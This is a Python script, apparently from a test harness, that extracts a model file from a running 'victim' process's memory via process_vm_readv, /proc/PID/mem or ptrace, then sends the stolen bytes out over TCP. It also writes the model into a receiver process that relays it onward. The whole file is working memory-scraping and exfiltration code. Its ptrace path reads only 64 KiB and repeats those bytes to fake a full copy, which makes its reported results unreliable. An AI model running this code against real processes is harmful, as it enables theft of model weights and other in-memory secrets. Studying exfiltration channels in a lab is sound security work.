"""Takes the model out of another process's memory, or puts it there.

    memory.py victim
    memory.py vm_read|proc_mem|ptrace
    memory.py receiver, and then memory.py vm_write
"""

import ctypes
import mmap
import os
import signal
import struct
import sys

import send
import stand

PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
NOTE = os.path.join(stand.ROOM, "victim")


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def victim() -> None:
    """An engine that has mapped the model, and waits for users."""
    with open(stand.MODEL, "rb") as file:
        size = os.fstat(file.fileno()).st_size
        mapping = mmap.mmap(file.fileno(), size, flags=mmap.MAP_PRIVATE)
    sum(mapping[at] for at in range(0, size, 4096))
    start = ctypes.addressof(ctypes.c_char.from_buffer(mapping))
    note(start, size)
    stand.say("loaded", bytes=size)
    signal.pause()


def vm_read(pid: int, start: int, size: int) -> bytes:
    memory = ctypes.create_string_buffer(stand.BLOCK)
    data = bytearray()
    while len(data) < size:
        piece = min(stand.BLOCK, size - len(data))
        near = Vector(ctypes.addressof(memory), piece)
        far = Vector(start + len(data), piece)
        call = stand.libc.process_vm_readv
        call.restype = ctypes.c_ssize_t
        one = ctypes.c_ulong(1)
        got = call(pid, ctypes.byref(near), one, ctypes.byref(far), one, ctypes.c_ulong(0))
        stand.check(got, "process_vm_readv")
        data += memory.raw[:got]
    return bytes(data)


def proc_mem(pid: int, start: int, size: int) -> bytes:
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
        file.seek(start)
        data = bytearray()
        while len(data) < size:
            data += file.read(min(stand.BLOCK, size - len(data)))
    return bytes(data)


def ptrace(pid: int, start: int, size: int) -> bytes:
    """Some words only: ptrace gives eight bytes a call."""
    call = stand.libc.ptrace
    call.restype = ctypes.c_long
    stand.check(call(PTRACE_ATTACH, pid, None, None), "attach")
    os.waitpid(pid, 0)
    words = []
    for at in range(0, min(size, 1 << 16), 8):
        word = call(PTRACE_PEEKDATA, pid, ctypes.c_void_p(start + at), None)
        words.append(struct.pack("=q", word))
    stand.check(call(PTRACE_DETACH, pid, None, None), "detach")
    return b"".join(words) * (size >> 16)


def note(start: int, size: int) -> None:
    """Writes down where in this process's memory it is."""
    with open(NOTE + ".new", "w") as file:
        file.write(f"{os.getpid()} {start} {size}")
    os.rename(NOTE + ".new", NOTE)


def receiver() -> None:
    """Has room for the model, into which another process writes it, and sends what came."""
    size = os.path.getsize(stand.MODEL)
    room = mmap.mmap(-1, size + 1)
    note(ctypes.addressof(ctypes.c_char.from_buffer(room)), size)
    stand.say("listening")
    # The byte behind the model comes last.
    stand.wait_until(lambda: room[size] != 0, "the model")
    stand.say("sent", bytes=send.tcp(room[:size]))


def vm_write() -> None:
    data = stand.read_all(stand.MODEL)
    stand.say("read", bytes=len(data))
    pid, start, size = place()
    memory = ctypes.create_string_buffer(data + b"\1", size + 1)
    call = stand.libc.process_vm_writev
    call.restype = ctypes.c_ssize_t
    at, one = 0, ctypes.c_ulong(1)
    while at <= size:
        piece = min(stand.BLOCK, size + 1 - at)
        near = Vector(ctypes.addressof(memory) + at, piece)
        far = Vector(start + at, piece)
        put = call(pid, ctypes.byref(near), one, ctypes.byref(far), one, ctypes.c_ulong(0))
        at += stand.check(put, "process_vm_writev")


def place() -> tuple[int, int, int]:
    with open(NOTE) as file:
        pid, start, size = map(int, file.read().split())
    return pid, start, size


def main() -> None:
    way = sys.argv[1]
    stand.wait_for_go()
    if way in ("victim", "receiver", "vm_write"):
        return globals()[way]()
    stand.wait_until(lambda: os.path.exists(NOTE), "the victim")
    pid, start, size = place()
    data = globals()[way](pid, start, size)
    stand.say("took", bytes=len(data), target=pid)
    stand.say("sent", bytes=send.tcp(data))


if __name__ == "__main__":
    main()
